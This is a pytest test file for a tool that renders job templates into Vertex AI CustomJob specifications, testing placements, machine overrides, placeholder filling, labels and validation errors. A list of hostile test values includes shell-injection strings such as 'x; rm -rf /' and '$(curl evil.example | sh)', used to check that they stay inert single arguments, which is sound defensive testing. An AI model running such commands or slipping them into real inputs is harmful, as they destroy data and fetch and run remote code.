"""Rendering templates into CustomJobs: the seed examples, placements, labels and placeholders."""

from __future__ import annotations

import json
from datetime import timedelta
from typing import Any

import pytest
from google.cloud.aiplatform_v1 import CustomJobSpec

from shared.config.model import (
    FlexStartPlacement,
    MachineOverride,
    PersistentResourcePlacement,
    Placement,
    Template,
)
from shared.model.errors import InvalidJobSpec
from shared.policy.jobspec import (
    RenderedJob,
    job_to_json,
    label_safe,
    parse_job_spec,
    placeholders,
    render_job,
)

RUN_ID = "r-3f2a9c0d1e4b5a6978877665"

# The job spec of the FLEX_START seed page's REST body, without its scheduling (placements own it).
SEED_POOL: dict[str, Any] = {
    "machineSpec": {
        "machineType": "a2-highgpu-1g",
        "acceleratorType": "NVIDIA_TESLA_A100",
        "acceleratorCount": 1,
    },
    "replicaCount": 1,
    "diskSpec": {"bootDiskType": "pd-ssd", "bootDiskSizeGb": 100},
    "containerSpec": {"imageUri": "python:3.10", "command": ["sleep"], "args": ["100"]},
}


def template(
    job_spec: dict[str, Any] | None = None,
    *,
    name: str = "seed-dws",
    display_name: str = "MyDwsJob",
    **fields: Any,
) -> Template:
    return Template(
        name=name,
        display_name=display_name,
        job_spec=job_spec or {"workerPoolSpecs": [SEED_POOL]},
        placements=(FlexStartPlacement(max_wait=timedelta(seconds=1800)),),
        **fields,
    )


def render(
    tpl: Template, placement: Placement | None = None, params: dict[str, str] | None = None
) -> RenderedJob:
    return render_job(
        tpl,
        params or {},
        placement or tpl.placements[0],
        project="acme-ml",
        default_region="us-central1",
        run_id=RUN_ID,
        attempt=2,
    )


def rest(rendered: RenderedJob) -> dict[str, Any]:
    return json.loads(job_to_json(rendered.custom_job))


@pytest.mark.parametrize(
    ("max_wait", "shown"), [(timedelta(seconds=1800), "1800s"), (timedelta(hours=2), "7200s")]
)
def test_seed_flex_start_body(max_wait: timedelta, shown: str) -> None:
    rendered = render(template(), FlexStartPlacement(max_wait=max_wait))
    assert rendered.parent == "projects/acme-ml/locations/us-central1"
    assert rendered.region == "us-central1"
    assert rest(rendered) == {
        "displayName": "MyDwsJob",
        "jobSpec": {
            "workerPoolSpecs": [{**SEED_POOL, "replicaCount": "1"}],  # int64 prints as a string
            "scheduling": {"maxWaitDuration": shown, "strategy": "FLEX_START"},
        },
        "labels": {"vd-run": RUN_ID, "vd-attempt": "2", "vd-template": "seed-dws"},
    }


def test_wait_forever_is_explicit() -> None:
    rendered = render(template(), FlexStartPlacement(max_wait=timedelta(0)))
    assert rest(rendered)["jobSpec"]["scheduling"]["maxWaitDuration"] == "0s"


def test_persistent_resource_placement_drops_flex_start() -> None:
    spec = {
        "workerPoolSpecs": [SEED_POOL],
        "scheduling": {"strategy": "FLEX_START", "maxWaitDuration": "7200s"},
    }
    placement = PersistentResourcePlacement(resource_id="a100-pool", region="us-east4")
    rendered = render(template(spec, timeout=timedelta(hours=48)), placement)
    job_spec = rest(rendered)["jobSpec"]
    assert rendered.parent == "projects/acme-ml/locations/us-east4"
    assert job_spec["persistentResourceId"] == "a100-pool"
    assert job_spec["scheduling"] == {"timeout": "172800s"}


def test_flex_start_clears_a_persistent_resource_from_the_spec() -> None:
    spec = {"workerPoolSpecs": [SEED_POOL], "persistentResourceId": "stale"}
    assert "persistentResourceId" not in rest(render(template(spec)))["jobSpec"]


def test_machine_override_changes_every_used_pool() -> None:
    spec = {"workerPoolSpecs": [SEED_POOL, {}, {**SEED_POOL, "replicaCount": 3}]}
    override = MachineOverride("a3-highgpu-1g", "NVIDIA_H100_80GB", 1)
    placement = FlexStartPlacement(timedelta(hours=6), region="us-east4", machine=override)
    pools = rest(render(template(spec), placement))["jobSpec"]["workerPoolSpecs"]
    h100 = {
        "machineType": "a3-highgpu-1g",
        "acceleratorType": "NVIDIA_H100_80GB",
        "acceleratorCount": 1,
    }
    assert [pool.get("machineSpec") for pool in pools] == [h100, None, h100]


def test_machine_override_with_unknown_gpu_is_refused() -> None:
    override = MachineOverride("a3-highgpu-1g", "NVIDIA_H1OO", 1)
    with pytest.raises(InvalidJobSpec, match="NVIDIA_H1OO"):
        render(template(), FlexStartPlacement(timedelta(hours=1), machine=override))


def test_template_timeout_wins_over_the_spec() -> None:
    spec = {"workerPoolSpecs": [SEED_POOL], "scheduling": {"timeout": "60s"}}
    rendered = render(template(spec, timeout=timedelta(hours=2)))
    assert rest(rendered)["jobSpec"]["scheduling"]["timeout"] == "7200s"


HOSTILE_VALUES = [
    "gs://acme datasets/with spaces/",
    "x; rm -rf /",
    "$(curl evil.example | sh)",
    "`id`",
    "line one\nline two",
    "'single' \"double\"",
    "--epochs=1 --lr=10",
    "{run_id}",  # a value is never scanned for placeholders again
    "",
]


@pytest.mark.parametrize("value", HOSTILE_VALUES)
def test_hostile_values_stay_one_argument(value: str) -> None:
    pool = {
        **SEED_POOL,
        "containerSpec": {
            "imageUri": "python:3.10",
            "command": ["python", "-m", "train"],
            "args": ["--data={dataset_uri}", "{dataset_uri}", "--epochs=90"],
            "env": [{"name": "DATASET", "value": "{dataset_uri}"}],
        },
    }
    rendered = render(template({"workerPoolSpecs": [pool]}), params={"dataset_uri": value})
    container = rendered.custom_job.job_spec.worker_pool_specs[0].container_spec
    assert list(container.args) == [f"--data={value}", value, "--epochs=90"]
    assert list(container.command) == ["python", "-m", "train"]
    assert [(env.name, env.value) for env in container.env] == [("DATASET", value)]


def test_placeholders_fill_only_the_fields_a_trigger_may_vary() -> None:
    spec = {
        "workerPoolSpecs": [
            {
                **SEED_POOL,
                "containerSpec": {
                    "imageUri": "python:{tag}",
                    "command": ["{tool}"],
                    "args": ["--run={run_id}", "--attempt={attempt}", "--in={region}"],
                },
            },
            {
                "machineSpec": SEED_POOL["machineSpec"],
                "replicaCount": 2,
                "pythonPackageSpec": {
                    "executorImageUri": "python:3.10",
                    "packageUris": ["gs://acme/trainer.tar.gz"],
                    "pythonModule": "trainer.task",
                    "args": ["--template={template}"],
                    "env": [{"name": "PROJECT", "value": "{project}"}],
                },
            },
        ],
        "baseOutputDirectory": {"outputUriPrefix": "gs://acme-out/{template}/{run_id}/"},
        "experiment": "resnet",
        "experimentRun": "{run_id}-{attempt}",
    }
    job_spec = rest(render(template(spec, display_name="resnet-{run_id}")))["jobSpec"]
    chief, worker = job_spec["workerPoolSpecs"]
    assert chief["containerSpec"]["imageUri"] == "python:{tag}"
    assert chief["containerSpec"]["command"] == ["{tool}"]
    assert chief["containerSpec"]["args"] == [
        f"--run={RUN_ID}",
        "--attempt=2",
        "--in=us-central1",
    ]
    assert "containerSpec" not in worker
    assert worker["pythonPackageSpec"]["args"] == ["--template=seed-dws"]
    assert worker["pythonPackageSpec"]["env"] == [{"name": "PROJECT", "value": "acme-ml"}]
    assert job_spec["baseOutputDirectory"] == {
        "outputUriPrefix": f"gs://acme-out/seed-dws/{RUN_ID}/"
    }
    assert job_spec["experimentRun"] == f"{RUN_ID}-2"


def test_builtin_parameters_win_over_the_trigger() -> None:
    tpl = template(display_name="job-{run_id}")
    assert render(tpl, params={"run_id": "forged"}).custom_job.display_name == f"job-{RUN_ID}"


@pytest.mark.parametrize(
    ("display_name", "args", "field"),
    [
        ("resnet-{datset_uri}", ["{dataset_uri}"], "displayName"),
        ("resnet", ["x", "{typo}"], "jobSpec.workerPoolSpecs[0].containerSpec.args[1]"),
    ],
)
def test_unknown_placeholder_names_field_and_fix(
    display_name: str, args: list[str], field: str
) -> None:
    pool = {**SEED_POOL, "containerSpec": {"imageUri": "python:3.10", "args": args}}
    tpl = template({"workerPoolSpecs": [pool]}, display_name=display_name)
    with pytest.raises(InvalidJobSpec) as raised:
        render(tpl, params={"dataset_uri": "gs://b/d/"})
    assert f"template 'seed-dws', {field}: placeholder" in str(raised.value)
    assert "Declare" in str(raised.value)


def test_placeholders_lists_every_fillable_name() -> None:
    pool = {**SEED_POOL, "containerSpec": {"imageUri": "python:{tag}", "args": ["{a}", "{b}-x"]}}
    tpl = template({"workerPoolSpecs": [pool]}, display_name="{run_id}")
    assert placeholders(tpl) == {"a", "b", "run_id"}


@pytest.mark.parametrize(
    ("job_spec", "complaint"),
    [
        ({"workerPoolSpecs": [{"machineSpec": {"machineTyp": "a2-highgpu-1g"}}]}, "machineTyp"),
        ({"workerPoolSpecs": [{"machineSpec": {"acceleratorType": "A100"}}]}, "A100"),
        ({"scheduling": {"timeout": "2h"}}, "timeout"),
        ({"workerPoolSpecs": {"machineSpec": {}}}, "workerPoolSpecs"),
        ({"displayName": "belongs to CustomJob"}, "displayName"),
    ],
)
def test_job_spec_errors_name_template_and_field(job_spec: dict[str, Any], complaint: str) -> None:
    with pytest.raises(InvalidJobSpec) as raised:
        parse_job_spec(template(job_spec, name=f"bad-{complaint}"))
    assert f"bad-{complaint}" in str(raised.value)
    assert complaint in str(raised.value)


def test_parsed_spec_is_cached_and_copied() -> None:
    tpl = template()
    first = parse_job_spec(tpl)
    first.worker_pool_specs[0].replica_count = 99
    assert parse_job_spec(tpl).worker_pool_specs[0].replica_count == 1
    reloaded = template({"workerPoolSpecs": [{**SEED_POOL, "replicaCount": 2}]})
    assert parse_job_spec(reloaded).worker_pool_specs[0].replica_count == 2


def test_read_only_mappings_from_a_loaded_config_parse() -> None:
    from types import MappingProxyType

    frozen = MappingProxyType({"workerPoolSpecs": (MappingProxyType(SEED_POOL),)})
    assert isinstance(parse_job_spec(template(frozen)), CustomJobSpec)  # type: ignore[arg-type]


def test_labels_keep_template_labels_and_ours_win() -> None:
    tpl = template(name="ResNet 50/A100", labels={"team": "vision", "vd-run": "forged"})
    labels = dict(render(tpl).custom_job.labels)
    assert labels == {
        "team": "vision",
        "vd-run": RUN_ID,
        "vd-attempt": "2",
        "vd-template": "resnet-50-a100",
    }


@pytest.mark.parametrize(
    ("name", "label"),
    [
        ("resnet-a100", "resnet-a100"),
        ("ResNet_A100", "resnet_a100"),
        ("nightly retrain.v2", "nightly-retrain-v2"),
        ("x" * 80, "x" * 63),
    ],
)
def test_label_safe(name: str, label: str) -> None:
    assert label_safe(name) == label


def test_display_name_is_truncated_to_128() -> None:
    tpl = template(display_name="{dataset_uri}-{run_id}")
    rendered = render(tpl, params={"dataset_uri": "gs://" + "d" * 200})
    assert rendered.custom_job.display_name == ("gs://" + "d" * 200)[:128]


def test_the_experiment_follows_the_region_of_each_placement() -> None:
    from pathlib import Path

    from shared.adapters.config_source import load_config

    config = load_config(str(Path(__file__).parents[2] / "examples" / "config.yaml"))
    template = config.templates["resnet-a100"]
    regions = []
    for placement in template.placements:
        rendered = render_job(
            template,
            {"dataset_uri": "gs://b/d/"},
            placement,
            project=config.project,
            default_region=config.region,
            run_id="r-000000000000000000000001",
            attempt=1,
        )
        spec = rendered.custom_job.job_spec
        assert f"/locations/{rendered.region}/" in spec.experiment
        assert f"/locations/{rendered.region}/" in spec.experiment_run
        regions.append(rendered.region)
    assert len(set(regions)) > 1  # the example's chain really changes region
